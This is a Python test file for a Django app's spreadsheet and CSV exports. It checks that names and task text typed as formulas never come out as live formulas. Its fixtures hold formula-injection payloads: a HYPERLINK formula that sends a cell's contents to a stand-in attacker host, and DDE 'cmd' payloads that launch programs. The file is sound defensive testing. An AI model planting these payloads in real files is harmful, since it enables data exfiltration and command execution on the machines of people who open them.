"""Every Excel (and CSV) file Chibo offers, filled with text that a spreadsheet would run as a
formula (names, unit names, task text imported as `=HYPERLINK(…)`, `=cmd|…`): no cell of any
file is a formula, and the text reads back exactly as it was typed (issue 14: the attack test
found the badge list writing such names as live formulas).

The list of exports is checked against the URL configuration, so a new download page that
this test does not fill and read fails here until it is added."""

import datetime as dt
import io
import re
from collections.abc import Callable

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from chibo.badges.tests.helpers import veteran
from chibo.core.formulas import TRIGGERS
from chibo.development.models import Stage
from chibo.development.tests.builders import candidate
from chibo.members.tests.test_transfers import send
from chibo.reports.files.tasks import build_report_file
from chibo.reports.models import ReportFile
from chibo.testing.deadlines import held, probationary, task
from chibo.testing.exports import read_csv

D = dt.date

# What an attacker (or a careless paste) leaves in a name, one of each starting character.
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B6,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
PLUS = "+cmd|' /C notepad'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+9)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=2+2"

# Chibo's own formulas, if it ever writes any (chibo.core.formulas.Formula): sums of cell
# ranges, which reach nothing outside the workbook. None is written today.
OWN_FORMULA = re.compile(r"=SUM\([A-Z]+[0-9]+:[A-Z]+[0-9]+\)")


def named(member, name: str) -> None:
    member.full_name = name
    member.save()


@pytest.fixture
def planted(world, cast):
    """The tree and its records named as an import could name them."""
    for unit, name in ((world.base, AT), (world.cell, HYPERLINK), (world.cell2, PLUS)):
        unit.name = name
        unit.save()
    world.member.full_name = DDE
    world.member.save()
    world.member2.full_name = MINUS
    world.member2.save()
    # Badges on 3/2/2026: a 30-year badge. (The services tidy a name's leading tab or
    # carriage return away: these two are written as an older import or the shell could.)
    named(veteran(world.cell2, D(1996, 2, 3), "Tab"), TAB)
    # The development board.
    candidate(world.cell, Stage.PROPOSED, name=DDE)
    # The deadline board on 14/04/2026: a ceremony overdue, a task overdue.
    named(probationary(world.cell, D(2026, 2, 2)), CR)
    meeting = held(world.cell, D(2026, 3, 5))
    task(meeting, D(2026, 3, 31), member=world.member, text=HYPERLINK)
    # A transfer in the first half of 2025, its letter number typed as a formula.
    send(world.member2, world.cell, D(2025, 3, 10), letter_number=MINUS)
    return world


def _badges(c, w):
    return c.get(reverse("badges:export", args=[w.base.pk]), {"occasion": "03/02/2026"})


def _development(c, w):
    return c.get(reverse("development:board_export", args=[w.base.pk]))


def _compliance(ext: str):
    def get(c, w):
        return c.get(reverse(f"compliance:{ext}", args=[w.base.pk]), {"period": "2026-03"})

    return get


def _template(c, w):
    return c.get(reverse("imports:template"))


def _members(c, w):
    return c.get(reverse("members:export"), {"status": "all"})


def _transfers(c, w):
    url = reverse("members:transfers_export", args=[w.base.pk])
    return c.get(url, {"from": "01/01/2025", "to": "30/06/2025"})


def _remittance(c, w):
    return c.get(reverse("dues_remittance:export", args=[w.base.pk]), {"year": 2026})


def _deadlines(c, w):
    return c.get(reverse("deadlines:export", args=[w.base.pk]), {"on": "14/04/2026"})


def _report_file(c, w):
    r = c.post(
        reverse("reports:file_request"), {"unit": w.base.pk, "period": "2026", "format": "xlsx"}
    )
    assert r.status_code == 302
    file = ReportFile.objects.latest("pk")
    build_report_file.call(file.pk)
    return c.get(reverse("reports:file_download", args=[file.pk]))


Fetch = Callable[..., object]

# Every download page, and the text each must carry back exactly (a whole cell).
EXPORTS: dict[str, tuple[Fetch, set[str]]] = {
    "badges:export": (_badges, {AT, PLUS, TAB}),
    "development:board_export": (_development, {AT, HYPERLINK, DDE}),
    "compliance:xlsx": (_compliance("xlsx"), {AT, HYPERLINK, PLUS}),
    "compliance:csv": (_compliance("csv"), {HYPERLINK, PLUS}),
    "imports:template": (_template, set()),  # Chibo's own text only
    "members:export": (_members, {HYPERLINK, PLUS, DDE, MINUS, TAB, CR}),
    "members:transfers_export": (_transfers, {AT, HYPERLINK, PLUS, MINUS}),
    "dues_remittance:export": (_remittance, {AT}),
    "deadlines:export": (_deadlines, {AT, HYPERLINK, CR}),
    # The report's unit names are written as party bodies ("Chi bộ =HYPERLINK…"): nothing
    # to carry back whole, but no cell may be a formula either.
    "reports:file_download": (_report_file, set()),
}


def _download_urls() -> set[str]:
    """The names of the URL patterns that answer with a file to open in a spreadsheet."""
    found = set()

    def walk(patterns, namespace: str) -> None:
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, f"{namespace}{p.namespace}:" if p.namespace else namespace)
            elif isinstance(p, URLPattern) and re.search(r"\.(xlsx|csv)$", str(p.pattern)):
                found.add(namespace + p.name)

    walk(get_resolver().url_patterns, "")
    return found


def test_every_download_is_listed_here():
    # The report files are downloaded from one page for every stored file.
    assert _download_urls() | {"reports:file_download"} == set(EXPORTS)


def test_the_api_offers_no_spreadsheet(client):
    # The API answers JSON only; were it to offer a workbook, it would belong in EXPORTS.
    schema = client.get("/api/v1/openapi.json")
    assert schema.status_code == 200
    assert "spreadsheetml" not in schema.text and "text/csv" not in schema.text


def _cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _number(text: str) -> bool:
    return re.fullmatch(r"-?[0-9]+([.,][0-9]+)?%?", text) is not None


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_cell_is_a_formula(name, planted, cast, client_for):
    fetch, carried = EXPORTS[name]
    r = fetch(client_for(cast.province_officer), planted)
    assert r.status_code == 200, name
    if name.endswith(":csv"):
        headers, rows = read_csv(r.content)
        fields = [*headers, *(v for row in rows for v in row)]
        # Text a spreadsheet would run starts with an apostrophe; numbers stay numbers.
        assert [v for v in fields if v.startswith(TRIGGERS) and not _number(v)] == []
        assert {t for t in carried if "'" + t in fields} == carried
        return
    cells = _cells(r.content)
    formulas = [
        f"{c.parent.title}!{c.coordinate}: {c.value}"
        for c in cells
        if c.data_type == "f" and not OWN_FORMULA.fullmatch(str(c.value))
    ]
    assert formulas == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert carried <= texts, carried - texts
    # Excel's own mark of text typed with a leading apostrophe: kept as text when edited.
    for c in cells:
        if isinstance(c.value, str) and c.value.startswith(TRIGGERS):
            assert c.quotePrefix, f"{c.parent.title}!{c.coordinate}"
    # Numbers stay numbers.
    assert any(isinstance(c.value, int | float) for c in cells) or name == "imports:template"


def test_the_report_command_writes_no_formula(planted, tmp_path):
    out = tmp_path / "report.xlsx"
    call_command("report", org=planted.base.code, year=2026, format="xlsx", output=str(out))
    assert [c.value for c in _cells(out.read_bytes()) if c.data_type == "f"] == []
